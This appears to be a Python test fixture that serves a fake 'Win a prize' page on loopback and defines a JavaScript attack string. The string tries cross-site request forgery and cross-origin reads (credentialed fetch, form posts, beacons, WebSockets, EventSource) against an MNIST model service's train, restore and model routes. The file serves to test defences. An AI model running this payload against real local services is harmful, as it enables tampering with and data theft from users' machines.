"""A web site that means harm: its pages try to reach a web that their visitor can reach."""

from __future__ import annotations

import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from types import TracebackType
from typing import Self

SERVICE = "/mnist37.v1.Mnist37Service"
# What each route would do. Some need a body, which is JSON where the type lets it be.
WRITES = {
    "/page/train": '{"epochs": 3}',
    "/page/step": '{"learning_rate": 1}',
    "/page/initialize": '{"std": 0}',
    "/page/restore": '{"version": "0"}',
    "/page/stop": "{}",
    f"{SERVICE}/Step": "{}",
    f"{SERVICE}/Train": '{"epochs": 3}',
    f"{SERVICE}/Initialize": "{}",
    f"{SERVICE}/Restore": '{"version": 0}',
    f"{SERVICE}/TagVersion": '{"tag": "stolen"}',
}
READS = {
    "/page/events": "{}",
    "/page/model": "{}",
    "/page/history": "{}",
    f"{SERVICE}/GetModel": "{}",
    "/v2": "",
    "/v2/models/mnist37": "",
    "/v2/models/mnist37/infer": '{"inputs": []}',
    "/openapi.json": "",
    "/page.js": "",
    "/": "",
}

# Tries everything against every route. Returns the texts that it could read.
ATTACK = """async ([base, bodies]) => {
  const read = [];
  const wait = (milliseconds) => new Promise((resolve) => setTimeout(resolve, milliseconds));
  const limit = (promise) => Promise.race([promise.catch(() => null), wait(250)]);
  const note = (kind, text) => { if (text) read.push(`${kind}: ${text}`.slice(0, 100)); };
  const fetchText = (path, options) => limit(fetch(base + path, options).then(
    async (reply) => note(`fetch ${path} ${JSON.stringify(options)}`, await reply.text())));
  const withBody = (path, body) => ['cors', 'no-cors'].flatMap((mode) => [
    { body, headers: { 'Content-Type': 'application/json' } },
    { body, headers: { 'Content-Type': 'text/plain' } },
    { body, headers: { 'Content-Type': 'text/plain; application/json' } },
    { body: new Blob([body]) },
    { body: new URLSearchParams({ [body]: '' }) },
  ].map((rest) => fetchText(path, { method: 'POST', mode, credentials: 'include', ...rest })));
  const element = (name, fields) => new Promise((resolve) => {
    const made = Object.assign(document.createElement(name), fields);
    made.onload = () => { if (name !== 'iframe') note(`${name} ${fields.src ?? fields.href}`, 'loaded'); resolve(); };
    made.onerror = resolve;
    document.body.append(made);
  });
  const post = (path, body, enctype) => {
    const frame = Object.assign(document.createElement('iframe'), { name: `f${Math.random()}` });
    const form = Object.assign(document.createElement('form'),
      { action: base + path, method: 'POST', enctype, target: frame.name });
    const half = Math.floor(body.length / 2);
    form.append(Object.assign(document.createElement('input'), { name: body.slice(0, half), value: body.slice(half) }));
    document.body.append(frame, form);
    form.submit();
  };
  const stream = (path) => new Promise((resolve) => {
    const events = new EventSource(base + path, { withCredentials: true });
    events.onopen = () => { note('EventSource', path); resolve(); };
    events.onerror = () => { events.close(); resolve(); };
  });
  const socket = (path) => new Promise((resolve) => {
    const opened = new WebSocket(base.replace('http', 'ws') + path);
    opened.onopen = () => { note('WebSocket', path); resolve(); };
    opened.onerror = resolve;
  });
  for (const [path, body] of Object.entries(bodies)) {
    navigator.sendBeacon(base + path, body);
    try { navigator.sendBeacon(base + path, new Blob([body], { type: 'application/json' })); } catch { }
    for (const enctype of ['text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data']) post(path, body, enctype);
    await Promise.all([
      ...withBody(path, body),
      ...['cors', 'no-cors'].map((mode) => fetchText(path, { mode, credentials: 'include' })),
      ...['img', 'script', 'iframe'].map((name) => limit(element(name, { src: base + path }))),
      limit(element('link', { rel: 'stylesheet', href: base + path })),
      limit(import(base + path).then(() => note('import', path))),
      limit(stream(path)), limit(socket(path)),
    ]);
  }
  for (const frame of document.querySelectorAll('iframe')) {
    let text = '';
    try { text = frame.contentDocument?.body?.innerText; } catch { }
    note('iframe', text);
  }
  return read;
}"""


class Attacker:
    """A site of empty pages, on a free port of loopback."""

    def __init__(self) -> None:
        self._server = ThreadingHTTPServer(("127.0.0.1", 0), _EmptyPage)
        self._thread = threading.Thread(target=self._server.serve_forever)
        self.port: int = self._server.server_address[1]

    def __enter__(self) -> Self:
        self._thread.start()
        return self

    def __exit__(
        self,
        kind: type[BaseException] | None,
        error: BaseException | None,
        traceback: TracebackType | None,
    ) -> None:
        self._server.shutdown()
        self._server.server_close()
        self._thread.join()


class _EmptyPage(BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.end_headers()
        self.wfile.write(b"<!doctype html><title>Win a prize</title><body>")

    def log_message(self, format: str, *arguments: object) -> None:
        """Print nothing."""
